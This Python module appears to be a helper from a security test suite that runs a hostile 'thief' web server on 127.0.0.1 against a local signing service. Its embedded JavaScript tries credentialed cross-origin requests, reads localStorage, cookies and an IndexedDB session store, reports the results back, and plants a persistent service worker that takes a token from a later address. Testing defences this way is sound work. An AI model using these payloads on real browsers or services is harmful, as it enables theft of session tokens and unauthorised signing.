"""Another account of the customer's machine, with a web server at a port of 127.0.0.1."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from tests.attacks.local_account import PYTHON, Attacker

THIEF = Attacker("thief", 4242)

# The server shows this page at each path. It tries all that a page can try with a signer at another port, then reports.
PAGE = """<!doctype html><title>a page</title><script>
(async () => {
  const asked = new URLSearchParams(location.search), signer = asked.get("url"), body = asked.get("body"), found = [];
  const json = {"Content-Type": "application/json", "X-Grid-Signer": "1"};
  const attempt = async (act) => found.push(await Promise.resolve().then(act).catch(String));
  for (const path of ["signer", "signer/session"])
    for (const mode of ["cors", "no-cors"])
      for (const headers of [{"Content-Type": "text/plain"}, json])
        await attempt(async () =>
          (await fetch(signer + path, {method: "POST", mode, credentials: "include", headers, body})).text());
  const frame = document.createElement("iframe");
  frame.src = signer;
  document.body.append(frame);
  await new Promise((resolve) => { frame.onload = frame.onerror = resolve; });
  await attempt(() => JSON.stringify({...frame.contentWindow.localStorage}));
  await attempt(() => JSON.stringify({...localStorage}) + document.cookie);
  await attempt(() => new Promise((resolve, reject) => {
    const open = indexedDB.open("deepgrid-session");
    open.onupgradeneeded = () => reject("no database");
    open.onsuccess = () => {
      const all = open.result.transaction("session").objectStore("session").getAll();
      all.onsuccess = () => resolve(JSON.stringify(all.result));
    };
  }));
  await fetch("report", {method: "POST", body: JSON.stringify(found)});
})();
</script><body></body>"""

# A page that stays in the browser when the thief's server has ended, and takes the token of the next address there.
PLANTED = """<!doctype html><title>a page</title><script>
(async () => {
  const post = async (path, body, more) => (await fetch(path, {
    method: "POST", headers: {"Content-Type": "application/json", ...more}, body: JSON.stringify(body)})).json();
  const token = location.hash.split("token=")[1];
  if (token) {
    const {session} = await post("signer/session", {token});
    await post("signer", CALL, {"X-Grid-Signer": session});
    document.title = "took the token";
  } else {
    await navigator.serviceWorker.register("worker.js");
    await navigator.serviceWorker.ready;
    document.title = "planted";
  }
})();
</script>"""

SERVER = """
import http.server, json, sys
seen = []
WORKER = "const page = " + json.dumps(PAGE) + '''
  oninstall = () => skipWaiting();
  onfetch = (event) => {
    if (event.request.mode === "navigate")
      event.respondWith(new Response(page, {headers: {"Content-Type": "text/html"}}));
  };'''
class Server(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        content = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        if self.path != "/seen":
            seen.append([self.path, dict(self.headers), content])
        special = {"/seen": json.dumps(seen), "/worker.js": WORKER}
        answer = special.get(self.path, PAGE).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if self.path == "/worker.js" else "text/html")
        if self.path != "/seen":
            self.send_header("Cache-Control", "public, max-age=31536000, immutable")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)
    do_POST = do_GET
    def log_message(self, *_): pass
server = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Server)
print(server.server_port, flush=True)
server.serve_forever()
"""


@dataclass(frozen=True)
class Seen:
    """A request that a browser sent to the thief."""

    path: str
    headers: dict[str, str]
    content: str


@dataclass(frozen=True)
class WebThief:
    """The server at `url`, and its account."""

    url: str
    account: Attacker = THIEF

    def link(self, signer: str, call: dict[str, Any]) -> str:
        """Return an address of the thief's page at the signer's path. The page tries to make this call."""
        return f"{self.url}/signer/?url={quote(signer)}&body={quote(json.dumps(call))}"

    def seen(self) -> list[Seen]:
        """Return what browsers have sent."""
        return [Seen(*one) for one in json.loads(self.account.request(f"{self.url}/seen").text)]

    def has_report(self) -> bool:
        """Return whether the page has tried everything."""
        return any(one.path.endswith("/report") for one in self.seen())


@contextmanager
def thief_at(host: str, port: int = 0, page: str = PAGE) -> Iterator[WebThief]:
    """Yield the thief's server until the context ends. It shows `page` at each path.

    Accounts see where others listen.
    """
    become = ["setpriv", f"--reuid={THIEF.uid}", f"--regid={THIEF.uid}", "--clear-groups", "--"]
    argv = [*become, PYTHON, "-c", f"PAGE = {page!r}\n{SERVER}", host, str(port)]
    with subprocess.Popen(argv, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, stderr=sys.stderr) as server:
        try:
            assert server.stdout is not None
            yield WebThief(f"http://{host}:{int(server.stdout.readline())}")
        finally:
            server.terminate()
